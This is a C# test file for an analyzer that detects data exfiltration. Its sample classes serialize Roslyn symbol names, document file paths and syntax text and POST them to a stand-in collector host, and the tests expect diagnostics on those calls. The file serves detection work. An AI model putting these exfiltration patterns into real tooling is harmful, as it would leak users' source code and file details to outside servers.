using System.Threading.Tasks;
using Xunit;
using static ExfilAnalyzers.Tests.Verifiers.FlowVerifier;

namespace ExfilAnalyzers.Tests.Flow;

/// <summary>Serializers, HTTP contents and streams carry what is put into them.</summary>
public class PayloadFlowTests
{
    private const string Usings = """
        using System;
        using System.Collections.Generic;
        using System.IO;
        using System.Net.Http;
        using System.Net.Http.Json;
        using System.Text;
        using System.Text.Json;
        using System.Threading.Tasks;
        using Microsoft.CodeAnalysis;

        """;

    [Fact]
    public Task Json_serialization_keeps_the_data()
    {
        return VerifyAsync(Usings + """
            class Report { public string Symbol { get; set; } }
            class Agent
            {
                async Task Send(HttpClient http, ISymbol symbol)
                {
                    var json = JsonSerializer.Serialize(new Report { Symbol = symbol.Name });
                    await http.PostAsync("https://collector.example.net/a", {|EXF1002:{|EXF1006:new StringContent(json)|}|});
                    var newtonsoft = Newtonsoft.Json.JsonConvert.SerializeObject(new { symbol.MetadataName });
                    await http.PostAsync("https://collector.example.net/b", {|EXF1002:{|EXF1006:new StringContent(newtonsoft, Encoding.UTF8, "application/json")|}|});
                }
            }
            """);
    }

    [Fact]
    public Task Json_of_clean_data_is_clean()
    {
        return VerifyAsync(Usings + """
            class Report { public int Count { get; set; } public string Kind { get; set; } }
            class Agent
            {
                async Task Send(HttpClient http, INamedTypeSymbol type)
                {
                    var json = JsonSerializer.Serialize(new Report { Count = type.GetMembers().Length, Kind = "type" });
                    await http.PostAsync("https://collector.example.net/a", new StringContent(json));
                }
            }
            """);
    }

    [Fact]
    public Task Http_contents_of_every_kind()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                async Task Send(HttpClient http, Document document, ISymbol symbol)
                {
                    var url = "https://collector.example.net/c";
                    await http.PostAsync(url, {|EXF1003:{|EXF1006:JsonContent.Create(new { document.FilePath })|}|});
                    await http.PostAsync(url, {|EXF1003:{|EXF1006:new ByteArrayContent(Encoding.UTF8.GetBytes(document.Name))|}|});
                    await http.PostAsync(url, {|EXF1002:{|EXF1006:new FormUrlEncodedContent(new Dictionary<string, string> { ["s"] = symbol.Name })|}|});
                    var multipart = new MultipartFormDataContent();
                    multipart.Add(new StringContent(symbol.ToDisplayString()), "symbol");
                    await http.PostAsync(url, {|EXF1002:{|EXF1006:multipart|}|});
                    await http.PostAsJsonAsync(url, {|EXF1002:{|EXF1006:new { symbol.Name }|}|});
                }
            }
            """);
    }

    [Fact]
    public Task Memory_stream_and_stream_writer()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                async Task Send(HttpClient http, SyntaxNode node)
                {
                    var buffer = new MemoryStream();
                    using (var writer = new StreamWriter(buffer, Encoding.UTF8, 1024, leaveOpen: true))
                    {
                        writer.Write(node.ToFullString());
                    }

                    await http.PostAsync("https://collector.example.net/d", {|EXF1001:{|EXF1006:new ByteArrayContent(buffer.ToArray())|}|});

                    var raw = new MemoryStream();
                    var bytes = Encoding.UTF8.GetBytes(node.ToString());
                    raw.Write(bytes, 0, bytes.Length);
                    raw.Position = 0;
                    await http.PostAsync("https://collector.example.net/e", {|EXF1001:{|EXF1006:new StreamContent(raw)|}|});
                }
            }
            """);
    }

    [Fact]
    public Task Stream_of_constants_is_clean()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                async Task Send(HttpClient http, SyntaxNode node)
                {
                    var buffer = new MemoryStream();
                    using (var writer = new StreamWriter(buffer))
                    {
                        writer.Write("lines:" + node.GetText().Lines.Count);
                    }

                    await http.PostAsync("https://collector.example.net/d", new ByteArrayContent(buffer.ToArray()));
                }
            }
            """);
    }
}
